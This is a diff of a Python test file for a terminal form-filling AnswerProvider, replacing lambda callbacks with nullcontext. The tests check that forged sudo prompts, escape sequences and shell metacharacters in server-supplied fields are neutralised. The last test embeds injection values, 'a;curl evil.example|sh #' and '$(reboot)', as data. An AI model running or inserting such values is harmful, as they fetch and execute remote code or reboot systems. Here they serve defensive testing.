@@ -3,6 +3,7 @@
 import io
 import re
 import sys
+from contextlib import nullcontext
 from pathlib import Path
 from typing import Any
 
@@ -41,7 +42,7 @@ def ask(monkeypatch: pytest.MonkeyPatch, typed: str, given: dict[str, str] | Non
     monkeypatch.setattr(sys, "stderr", shown)
     monkeypatch.setenv("NO_COLOR", "1")
     question = ElicitRequestParams(message="Which seat?", requested_schema=FORM)
-    return AnswerProvider(given or {}, lambda: None).fill_form(question), shown.getvalue()
+    return AnswerProvider(given or {}, nullcontext).fill_form(question), shown.getvalue()
 
 
 def test_every_field_in_its_way(monkeypatch: pytest.MonkeyPatch) -> None:
@@ -73,7 +74,7 @@ def test_no_and_the_end_of_input(monkeypatch: pytest.MonkeyPatch) -> None:
 
 def test_no_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stdin", io.StringIO())
-    questions = AnswerProvider({"row": "1"}, lambda: None)
+    questions = AnswerProvider({"row": "1"}, nullcontext)
     with pytest.raises(InputRequestError, match="Which seat") as caught:
         questions.fill_form(ElicitRequestParams(message="Which seat?", requested_schema=FORM))
     assert caught.value.hint is not None
@@ -90,7 +91,7 @@ def test_text_of_the_server_never_looks_like_text_of_the_command(monkeypatch: py
     monkeypatch.setenv("NO_COLOR", "1")
     monkeypatch.setenv("COLUMNS", "80")
     forged = "error: session expired\n[sudo] password for root: "
-    answers, message = AnswerProvider({}, lambda: None), forged + " " * 75 + forged
+    answers, message = AnswerProvider({}, nullcontext), forged + " " * 75 + forged
     if mode == "form":
         form: dict[str, Any] = {
             "properties": {"p": {"type": "string", "title": "[sudo] password for root", "description": forged}},
@@ -111,7 +112,7 @@ def test_without_a_terminal_the_error_lists_the_possible_answers(monkeypatch: py
     form = {"properties": {"allow": {"enum": ["once", "no"]}, "note": {"type": "string"}}, "required": ["allow"]}
     question = ElicitRequestParams(message="Allow it?\n  because: \x1b[2J", requested_schema=form)
     with pytest.raises(InputRequestError) as told:
-        AnswerProvider({}, lambda: None).fill_form(question)
+        AnswerProvider({}, nullcontext).fill_form(question)
     assert "  │ Allow it?\n  │   because: \\x1b[2J" in str(told.value)
     assert "--answer allow=once|no --answer note=..." in str(told.value)
 
@@ -151,5 +152,5 @@ def test_a_hint_with_names_of_a_server_is_safe_to_copy_into_a_shell(monkeypatch:
     monkeypatch.setattr(sys, "stdin", io.StringIO(""))
     form = {"properties": {"a;curl evil.example|sh #": {"enum": ["once", "$(reboot)"]}}}
     with pytest.raises(InputRequestError) as told:
-        AnswerProvider({}, lambda: None).fill_form(ElicitRequestParams(message="?", requested_schema=form))
+        AnswerProvider({}, nullcontext).fill_form(ElicitRequestParams(message="?", requested_schema=form))
     assert told.value.hint == "--answer 'a;curl evil.example|sh #'=once|'$(reboot)'"
